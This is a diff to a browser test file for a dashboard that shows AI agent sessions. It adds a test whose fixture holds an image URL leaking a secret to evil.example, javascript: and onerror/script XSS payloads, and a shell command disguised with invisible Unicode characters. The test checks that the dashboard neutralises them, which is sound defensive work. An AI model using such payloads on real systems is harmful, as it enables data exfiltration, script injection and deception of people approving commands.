@@ -1,5 +1,6 @@
-import { readFileSync } from 'node:fs'
+import { readFileSync, writeFileSync } from 'node:fs'
 import { createRequire } from 'node:module'
+import { join } from 'node:path'
 import type { Browser, BrowserContext, Locator, Page } from 'playwright-core'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { hasChromium, logIn, openBrowser, Served, watchErrors, watchOrigins } from './harness.js'
@@ -346,6 +347,41 @@ describe.skipIf(!hasChromium)('the dashboard on the living demo', () => {
     await other.close()
   })
 
+  it('what an agent says stays text: nothing is fetched for it, and nothing in a request stays hidden', async () => {
+    const scenario = join(served.directory, 'hostile.json')
+    const hidden = 'echo safe \u202e; ls\u200b -la \u2066'
+    writeFileSync(
+      scenario,
+      JSON.stringify({
+        name: 'hostile',
+        turns: [
+          {
+            steps: [
+              {
+                say: 'Look: ![a picture](https://evil.example/leak.png?secret=1) and [a page](javascript:alert(1)) <img src="https://evil.example/x.png" onerror="alert(1)"> <script>alert(1)</script>',
+              },
+              { tool: { name: 'Shell', kind: 'shell', command: hidden, permission: true } },
+            ],
+          },
+        ],
+      }),
+    )
+    await page.goto(`${served.address}/start`)
+    await page.getByLabel('Agent').selectOption('demo')
+    await page.getByLabel('First prompt (optional)').fill('go')
+    await page.getByText('Arguments of the agent').click()
+    await page.getByLabel('Arguments, separated by spaces').fill(`--scenario ${scenario} --speed 10`)
+    await page.getByRole('button', { name: 'Start the session' }).click()
+    const asked = page.locator('article.card')
+    await asked.waitFor()
+    expect(await asked.locator('mark').count()).toBeGreaterThan(0)
+    expect(await asked.locator('.request').textContent()).not.toMatch(/[\u200b\u202e\u2066]/)
+    expect(await page.locator('.talk').textContent()).not.toMatch(/[\u200b\u202e\u2066]/)
+    expect(await page.locator('.talk :is(img, script, iframe)').count()).toBe(0)
+    expect(await page.locator('.talk a[href^="javascript"]').count()).toBe(0)
+    expect(foreign).toEqual([])
+  })
+
   it('a phone: bottom bar, cards one below the other with the request between the presses', async () => {
     await page.setViewportSize({ width: 390, height: 844 })
     await page.goto(`${served.address}/`)
@@ -426,6 +462,9 @@ describe.skipIf(!hasChromium)('the dashboard on the living demo', () => {
         const { axe } = globalThis as unknown as {
           axe: { run(target: object, options: object): Promise<{ violations: Violation[] }> }
         }
+        // Colours change over a moment; half-way they say nothing.
+        await new Promise(resolve => requestAnimationFrame(() => requestAnimationFrame(resolve)))
+        await Promise.allSettled(document.getAnimations().map(animation => animation.finished))
         const { violations } = await axe.run(
           { exclude: [['.xterm']] },
           { resultTypes: ['violations'], ...(only && { runOnly: only }) },
